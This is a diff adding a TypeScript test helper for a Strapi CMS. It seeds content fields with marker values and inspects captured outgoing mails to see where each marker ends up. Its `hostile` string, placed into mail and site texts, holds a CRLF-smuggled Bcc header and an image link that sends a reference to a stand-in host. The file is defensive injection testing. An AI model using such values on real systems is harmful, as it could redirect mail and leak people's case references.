@@ -1,0 +1,194 @@
+import { readFileSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
+
+import PostalMime, { type Address, type Email } from 'postal-mime';
+
+import { until } from '../../helpers/until';
+import { api, env, send, type Staff, withKey } from './calls';
+import { rows } from './rows';
+import { type Attribute, componentOf, contentTypes, type Schema } from './schemas';
+import { post, signedOf, signing } from './signings';
+
+/** A value written into one field, by which the field is recognized wherever its value goes. */
+export interface Mark {
+  /** Type and field, as the table names them. */
+  readonly path: string;
+  readonly text: string;
+  /** It leads somewhere: an address, a link, a phone number. */
+  readonly isLink: boolean;
+}
+
+/** What an attacker would add to a text, hoping for another recipient or for a picture that calls home. */
+const hostile = (mark: string): string => `\r\nBcc: ${mark}-bcc@example.com\r\n<img src="https://${mark}.example/{{reference}}"> https://${mark}.example/?{{reference}}`;
+
+/** All that a letter may name, so that it is seen where their values go. */
+const FIRM = '{{company}} {{phone}} {{email}} {{hoursWeekdays}} {{hoursSaturday}} {{site}}';
+
+/** Makes values with marks for one actor. */
+export class Marks {
+  readonly all: Mark[] = [];
+
+  constructor(
+    private readonly actor: string,
+    private readonly actorNumber: number,
+  ) {}
+
+  /** The fields of an entry with a mark in each that takes text. */
+  entry(type: string, { attributes }: Schema, before: Readonly<Record<string, unknown>>, path = type): Record<string, unknown> {
+    return Object.fromEntries(
+      Object.entries(attributes).flatMap(([name, attribute]) => {
+        const value = this.value(type, attribute, before[name], `${path}.${name}`);
+        return value === undefined ? [] : [[name, value]];
+      }),
+    );
+  }
+
+  /** A mark for a field that takes text of any kind. */
+  text(path: string): string {
+    return this.add(path, `${this.actor}${this.all.length}x`);
+  }
+
+  /** The administration settings, with periods so long that nothing is erased. */
+  administration(): Readonly<Record<string, unknown>> {
+    const [notificationEmail, replyToEmail] = [this.email('data-protection.notificationEmail'), this.email('data-protection.replyToEmail')];
+    return { notificationEmail, replyToEmail, helpRequestDays: this.days('data-protection.helpRequestDays'), mailDays: this.days('data-protection.mailDays') };
+  }
+
+  private email(path: string): string {
+    return this.add(path, `${this.actor}${this.all.length}x@example.com`, true);
+  }
+
+  private days(path: string): number {
+    const days = 2_000 + this.actorNumber + this.all.length;
+    // As a notice of the change writes it.
+    this.add(path, `→ ${days}`);
+    return days;
+  }
+
+  private value(type: string, attribute: Attribute, before: unknown, path: string): unknown {
+    const component = componentOf(attribute);
+    if (component) {
+      const inner = (value: unknown) => this.entry(type, component, (value ?? {}) as Readonly<Record<string, unknown>>, path);
+      return attribute.repeatable ? [inner({})] : inner(before);
+    }
+    if (attribute.unique) return undefined;
+    if (attribute.type === 'email') return this.email(path);
+    if (!['string', 'text', 'richtext'].includes(attribute.type)) return undefined;
+    if (attribute.regex?.includes('https')) return this.add(path, `https://${this.actor}${this.all.length}x.example/`, true);
+    if (attribute.regex?.includes('[0-9 ()-]')) return this.add(path, `+370 ${this.actorNumber} ${1_000 + this.all.length}`, true);
+    if (attribute.regex !== undefined) return undefined;
+    const mark = this.text(path);
+    if (type === 'mail-texts') return attribute.type === 'text' ? `${mark} ${hostile(mark)}\n\n${FIRM}\n\n${typeof before === 'string' ? before : ''}` : `${mark} ${hostile(mark).replaceAll('{{reference}}', '')}`;
+    return type === 'site-settings' ? `${mark} ${hostile(mark).replaceAll('{{reference}}', '')}` : mark;
+  }
+
+  private add(path: string, text: string, isLink = false): string {
+    this.all.push({ path, text, isLink });
+    return text;
+  }
+}
+
+const EDITED_BY_HAND = ['site-settings', 'home-page', 'help-request-page', 'contract-page', 'news-page', 'interface-texts', 'mail-texts', 'service', 'team-member', 'contract-section', 'article', 'legal-page'];
+
+/** Writes a mark into every text of every entry of the content, in Russian, the language of the notices, and publishes it. @returns the statuses of the answers */
+export async function markContent(who: Staff, asAdmin: Staff, marks: Marks): Promise<readonly number[]> {
+  const statuses: number[] = [];
+  for (const schema of contentTypes().filter(({ info }) => EDITED_BY_HAND.includes(info.singularName))) {
+    const type = schema.info.singularName;
+    const path = await pathOfEntry(asAdmin, type, schema);
+    const { data: before } = (await asAdmin(api().get(`${path}?locale=ru`)).expect(200)).body as { data: Readonly<Record<string, unknown>> };
+    const { status } = await who(api().post(`${path}/actions/publish?locale=ru`)).send({ ...keysOf(before), ...marks.entry(type, schema, before) });
+    statuses.push(status);
+  }
+  return statuses;
+}
+
+async function pathOfEntry(asAdmin: Staff, type: string, { kind }: Schema): Promise<string> {
+  if (kind === 'singleType') return `/content-manager/single-types/api::${type}.${type}`;
+  const path = `/content-manager/collection-types/api::${type}.${type}`;
+  const { results } = (await asAdmin(api().get(`${path}?locale=ru&pageSize=1`)).expect(200)).body as { results: readonly { documentId: string }[] };
+  return `${path}/${results[0]?.documentId}`;
+}
+
+/** What names an entry stays. */
+function keysOf(entry: Readonly<Record<string, unknown>>): Readonly<Record<string, unknown>> {
+  return Object.fromEntries(['key', 'slug', 'order'].flatMap((name) => (entry[name] === undefined ? [] : [[name, entry[name]]])));
+}
+
+/** A mail as it left the CMS, and what it is. */
+export interface SentMail {
+  readonly kind: string;
+  readonly mail: Email;
+}
+
+const folder = (): string => join(env('DATA_DIR'), 'mails');
+
+/** Every mail that leaves while something is done, Strapi's own too; waits until the outbox has nothing left to send. */
+export async function mailsWhile(act: () => Promise<unknown>): Promise<readonly SentMail[]> {
+  const stamp = (): ReadonlyMap<string, Buffer> => new Map(readdirSync(folder()).filter((name) => name.endsWith('.eml')).map((name) => [name, readFileSync(join(folder(), name))]));
+  const before = stamp();
+  await act();
+  await until('the outbox is empty', () => rows('outbox_mails', 'state in (?, ?)', 'pending', 'sending').length === 0);
+  const kinds = new Map(rows('outbox_mails').map(({ message_id: id, kind }) => [`${String(id).slice(1, -1)}.eml`, String(kind)]));
+  const sent = [...stamp()].filter(([name, content]) => before.get(name)?.equals(content) !== true);
+  return Promise.all(sent.map(async ([name, content]) => ({ kind: kinds.get(name) ?? 'other', mail: await PostalMime.parse(content) })));
+}
+
+let people = 0;
+/** An address of a visitor; a mailbox gets few receipts a day. */
+export const newVisitor = (): string => `visitor-${(people += 1)}-${process.pid}@example.com`;
+
+/** A visitor sends a request and signs the agreement. @returns the references */
+export async function visit(email: string): Promise<{ readonly request: string; readonly signing: string }> {
+  const { data } = (await send({ email, form: 'contact', subject: 'Брокер', message: 'Не выводят деньги' }).expect(201)).body as { data: { reference: string } };
+  const signed = signedOf(await post(await signing({ email })).expect(201));
+  return { request: data.reference, signing: signed.reference };
+}
+
+const addressesIn = (list: readonly Address[] | undefined): readonly string[] => (list ?? []).flatMap(({ address, group }) => [...(address === undefined ? [] : [address]), ...addressesIn(group)]);
+
+/** Everybody a mail, or an answer to it, goes to. */
+export function recipientsOf({ mail: { to, cc, bcc, replyTo } }: SentMail) {
+  return { to: addressesIn(to), cc: addressesIn(cc), bcc: addressesIn(bcc), replyTo: addressesIn(replyTo) };
+}
+
+const KNOWN_HEADERS = ['to', 'cc', 'bcc', 'reply-to', 'from', 'subject'];
+
+/** Where in a mail a text is. */
+export function placesIn(sent: SentMail, text: string): readonly string[] {
+  const { mail } = sent;
+  const { to, cc, bcc, replyTo } = recipientsOf(sent);
+  const parts: Readonly<Record<string, readonly (string | undefined)[]>> = {
+    to,
+    cc,
+    bcc,
+    'reply-to': replyTo,
+    from: [mail.from?.address],
+    'name of the sender': [mail.from?.name],
+    subject: [mail.subject],
+    text: [mail.text, mail.html],
+    attachment: mail.attachments.map(({ content }) => (typeof content === 'string' ? content : new TextDecoder().decode(content))),
+    'other header': mail.headers.filter(({ key }) => !KNOWN_HEADERS.includes(key)).map(({ value }) => value),
+  };
+  return Object.entries(parts).flatMap(([place, values]) => (values.some((value) => value?.includes(text)) ? [place] : []));
+}
+
+/** The elements of a mail as HTML, and where its links lead. */
+export function htmlOf({ mail: { html = '' } }: SentMail) {
+  const tags = [...html.matchAll(/<(\w+)/g)].map(([, name]) => name ?? '');
+  const links = [...html.matchAll(/<[^>]*\b(?:href|src)="([^"]*)"/g)].map(([, link]) => link ?? '');
+  return { tags: [...new Set(tags)], links };
+}
+
+/** What the build reads for the site's pages, as one text. */
+export async function contentForPages(): Promise<string> {
+  const paths = contentTypes().filter(({ info }) => EDITED_BY_HAND.includes(info.singularName) && info.singularName !== 'mail-texts');
+  const answers: string[] = [];
+  for (const schema of paths) {
+    const { pluralName, singularName } = schema.info;
+    const { status, text } = await withKey(api().get(`/api/${schema.kind === 'singleType' ? singularName : pluralName}?locale=ru&populate=*&pagination[pageSize]=100`), 'build');
+    if (status !== 200) throw new Error(`${singularName}: HTTP ${status}`);
+    answers.push(text);
+  }
+  return answers.join('\n');
+}
